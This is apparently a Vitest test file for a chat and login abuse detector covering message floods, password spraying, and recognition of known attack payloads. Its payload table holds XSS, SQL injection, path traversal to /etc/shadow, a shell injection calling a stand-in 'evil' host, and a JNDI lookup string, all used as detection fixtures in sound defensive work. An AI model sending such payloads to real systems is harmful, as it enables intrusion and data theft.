import { expect, test } from 'vitest'
import type { AuditEntry } from './contract.ts'
import { badPayloads } from './bad-payloads.ts'
import { noPatterns, Patterns } from './patterns.ts'
import { RecentSets } from './recent-sets.ts'

function patternsOf() {
  const clock = { ms: 0 }
  const noted: AuditEntry[] = []
  const patterns = new Patterns({ audit: { note: (entry) => noted.push(entry) }, nowMs: () => clock.ms })
  return { patterns, clock, noted }
}

const ann = { user: 'ann', address: '127.0.0.1' }

test('the same text twenty times in a minute is a flood, noted once', () => {
  const { patterns, noted } = patternsOf()
  const found = Array.from({ length: 30 }, () => patterns.look('buy cheap watches', ann))
  expect(found.findIndex((names) => names.includes('same-text'))).toBe(19)
  expect(noted).toEqual([{ kind: 'pattern', ...ann, detail: 'same-text: buy cheap watches' }])
})

test('different texts, short words and the same text over an hour are no flood', () => {
  const { patterns, clock, noted } = patternsOf()
  for (let n = 0; n < 500; n++) {
    patterns.look(`this is message ${n}`, ann)
    patterns.look('ok', ann)
    patterns.look('good morning', { user: `user-${n}`, address: '127.0.0.1' })
  }
  for (let n = 0; n < 60; n++, clock.ms += 60_000) patterns.look('is anybody there?', ann)
  expect(noted).toEqual([])
})

test('one address that fails as many users is spraying', () => {
  const { patterns, noted } = patternsOf()
  for (let n = 0; n < 15; n++) patterns.lookAtLogIn({ user: `user-${n}`, password: `guess-${n}`, address: '127.0.0.9' })
  expect(noted).toEqual([{ kind: 'pattern', address: '127.0.0.9', detail: 'many-users-of-one-address: user-9' }])
})

test('one password that fails for many users is spraying, from however many addresses', () => {
  const { patterns, noted } = patternsOf()
  for (let n = 0; n < 15; n++) patterns.lookAtLogIn({ user: `user-${n}`, password: 'Winter2026!', address: `127.0.1.${n}` })
  expect(noted[0]).toMatchObject({ address: '127.0.1.9', detail: 'one-password-on-many-users: user-9' })
  expect(JSON.stringify(noted)).not.toContain('Winter2026!')
})

test('one user who forgot the password, and many users who mistype theirs, are no pattern', () => {
  const { patterns, noted } = patternsOf()
  for (let n = 0; n < 100; n++) patterns.lookAtLogIn({ user: 'ann', password: `guess-${n}`, address: '127.0.0.1' })
  for (let n = 0; n < 100; n++) patterns.lookAtLogIn({ user: `user-${n}`, password: `own-${n}`, address: `127.0.2.${n}` })
  expect(noted).toEqual([])
})

test.each([
  ['<ScRiPt>alert(1)</script>', 'payload-script'],
  ['<img src=x onerror = alert(1)>', 'payload-script'],
  ["' or '1'='1", 'payload-sql'],
  ['1 UNION ALL SELECT password_hash FROM users', 'payload-sql'],
  ['../../../../etc/shadow', 'payload-path'],
  ['hello; curl http://evil/x', 'payload-shell'],
  ['${jndi:ldap://evil/a}', 'payload-template'],
])('%s is known', (text, name) => {
  expect(badPayloads(text)).toContain(name)
})

test.each([
  'Shall we meet at 5? I load the car.',
  "it's either one or the other",
  'the union selected a new chair',
  'see ../notes.txt',
  'a < b | c',
])('"%s" is a text like any other', (text) => {
  expect(badPayloads(text)).toEqual([])
})

test('the longest texts that look almost bad take no long look', () => {
  const texts = ['../'.repeat(1) + '.'.repeat(4_000), 'union '.repeat(700), `'${' '.repeat(4_000)}or`, ' on'.repeat(1_300)]
  const from = performance.now()
  for (let n = 0; n < 100; n++) for (const text of texts) badPayloads(text)
  // 400 looks take some 20 ms; what backtracks takes minutes.
  expect(performance.now() - from).toBeLessThan(5_000)
})

test('what was seen is forgotten after the window, and bounded within it', () => {
  const clock = { ms: 0 }
  const sets = new RecentSets({ windowMs: 1_000, most: 5, mostSets: 100, nowMs: () => clock.ms })
  for (let n = 0; n < 1_000; n++) sets.add(`key-${n}`, 'x')
  expect(sets.size).toBe(100)
  expect(Array.from({ length: 8 }, (_, n) => sets.add('one', String(n)))).toEqual([1, 2, 3, 4, 5, 5, 5, 5])
  clock.ms += 1_000
  expect(sets.add('one', 'y')).toBe(1)
  for (let n = 0; n < 100; n++) sets.add('one', 'y')
  expect(sets.size).toBe(1)
})

test('without patterns nothing is looked at', () => {
  expect(noPatterns.look("' or '1'='1", ann)).toEqual([])
  expect(noPatterns.lookAtLogIn({ user: 'ann', password: 'x', address: '127.0.0.1' })).toEqual([])
})
